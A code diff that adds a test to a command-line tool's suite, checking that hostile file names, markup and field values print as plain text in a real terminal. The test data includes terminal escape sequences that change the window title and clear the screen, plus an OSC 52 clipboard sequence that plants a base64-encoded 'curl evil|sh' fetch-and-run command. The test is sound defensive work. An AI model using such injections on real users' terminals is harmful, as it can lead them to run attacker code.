@@ -15,7 +15,7 @@ import pytest
 import yaml
 from markdown_it import MarkdownIt
 
-from conftest import PARTNERSHIP_DOMAINS
+from conftest import PARTNERSHIP_DOMAINS, make_session
 
 pytestmark = pytest.mark.slow
 
@@ -398,3 +398,42 @@ def test_keys_typed_before_the_first_prompt_do_not_glue_onto_it(sessions_dir: Pa
     lines = [line.rstrip() for line in screen.display]
     assert "Collaborative Northgate" in lines, lines[:8]  # the prompt on its own line
     assert any(line.startswith("Date (YYYY-MM-DD)") for line in lines)
+
+
+def test_a_hostile_folder_reaches_a_real_terminal_as_text(sessions_dir: Path) -> None:
+    """In a pseudo-terminal, read by a terminal emulator (pyte): a file name that would
+    set the window title and clear the screen, a record id in two files, a folder named
+    with Rich markup and a collaborative with an OSC 52 (clipboard) sequence are shown as
+    text by `list` and by `discard`'s prompt, and change nothing of the terminal."""
+    import pyte
+
+    folder = sessions_dir.parent / "x[/bold]y"
+    sid = make_session(
+        folder,
+        "partnership-reflection",
+        collaborative="Evil\x1b]52;c;Y3VybCBldmlsfHNo\x07 Collab",
+        status="draft",
+    )
+    (folder / "\x1b]0;HACKED\x07\x1b[2Jbad.yaml").write_text("a: [", encoding="utf-8")
+    (folder / "copy.yaml").write_bytes((folder / f"{sid}.yaml").read_bytes())
+    for args, reply in ((["list"], None), (["discard", sid], "n")):
+        child = spawn(folder, *args)
+        child.logfile_read = io.StringIO()
+        if reply is not None:
+            child.expect_exact("? [y/N] ")
+            child.sendline(reply)
+        child.expect(pexpect.EOF)
+        child.close()
+        assert child.exitstatus == 0
+        seen = child.logfile_read.getvalue()
+        assert "\x1b]" not in seen and "\x1b[2J" not in seen and "\x07" not in seen
+        screen = pyte.Screen(200, 50)
+        stream = pyte.Stream(screen)
+        stream.feed(seen)
+        shown = "\n".join(screen.display)
+        assert screen.title == ""
+        assert "\\x1b]0;HACKED\\x07\\x1b[2Jbad.yaml" in shown and "x[/bold]y" in shown
+        assert "Evil\\x1b]52;c;Y3VybCBldmlsfHNo\\x07 Collab" in shown
+        if reply is None:
+            assert f"session {sid} is in 2 files" in shown
+    assert (folder / f"{sid}.yaml").is_file()
